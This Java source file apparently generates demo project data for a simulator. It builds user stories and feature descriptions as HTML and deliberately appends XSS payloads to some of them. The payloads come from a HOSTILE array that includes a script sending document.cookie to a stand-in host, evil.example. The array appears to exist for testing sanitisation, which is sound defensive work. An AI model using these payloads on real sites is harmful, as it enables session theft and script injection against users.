package io.tyto.simulator.world;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** The words of the demo project. */
final class DemoText {
  /** A feature line with its stories; the one without a status holds the stories of no feature. */
  record Line(
      String workstream,
      String status,
      int priority,
      String release,
      String title,
      List<String> stories) {}

  private static final String[] ROLES = {
    "order clerk",
    "key account manager",
    "warehouse lead",
    "billing clerk",
    "credit controller",
    "customer",
    "carrier",
    "controller"
  };
  private static final String[] GAINS = {
    "nobody has to ask by phone",
    "the customer gets an answer on the same day",
    "the month closes without a list of exceptions",
    "the auditor can follow what happened",
    "we stop typing the same numbers twice"
  };
  private static final String[] HOSTILE = {
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=\"x\" onerror=\"alert('owned')\">",
    "<a href=\"javascript:alert(1)\">Specification</a><iframe src=\"https://evil.example\"></iframe>",
    "<p style=\"background:url(https://evil.example/p.gif)\" onclick=\"steal()\">Click</p>"
  };

  private DemoText() {}

  static List<Line> orderToCash() {
    List<Line> lines = new ArrayList<>();
    String workstream = "";
    for (String text : read("order-to-cash.txt")) {
      if (text.startsWith("= ")) {
        workstream = text.substring(2);
        if (workstream.startsWith("-")) {
          lines.add(new Line(workstream, "", 30, "-", "", new ArrayList<>()));
        }
      } else if (text.startsWith("* ")) {
        String[] parts = text.substring(2).split(" ", 4);
        lines.add(
            new Line(
                workstream,
                parts[0],
                Integer.parseInt(parts[1]),
                parts[2],
                parts[3],
                new ArrayList<>()));
      } else if (text.startsWith("- ")) {
        lines.getLast().stories().add(text.substring(2));
      }
    }
    return lines;
  }

  private static List<String> read(String name) {
    try (InputStream in = DemoText.class.getResourceAsStream(name)) {
      if (in == null) {
        throw new IllegalStateException("Resource " + name + " is missing");
      }
      return new BufferedReader(new InputStreamReader(in, StandardCharsets.UTF_8)).lines().toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** HTML as an editor writes it; a few are hostile, because people paste what they find. */
  static String story(int index, String title) {
    String wish = title.substring(0, 1).toLowerCase(Locale.ROOT) + title.substring(1);
    String text =
        "<p>As a <strong>"
            + ROLES[index % ROLES.length]
            + "</strong> I want to "
            + wish
            + " so that "
            + GAINS[index % GAINS.length]
            + ".</p><ul><li>Works in English and German</li><li>Takes less than two seconds</li>"
            + "<li>Is written to the change log</li></ul>";
    return index % 17 == 5 ? text + HOSTILE[index / 17 % HOSTILE.length] : text;
  }

  static String feature(int index, String title) {
    String text =
        "<h2>Goal</h2><p>"
            + title
            + " replaces a spreadsheet and two mails.</p><h2>In scope</h2><p>All sales areas of"
            + " Europe; <em>not</em> the consignment business.</p><table><tr><td>Owner</td><td>"
            + ROLES[index % ROLES.length]
            + "</td></tr></table>";
    return index % 11 == 3 ? text + HOSTILE[index / 11 % HOSTILE.length] : text;
  }
}
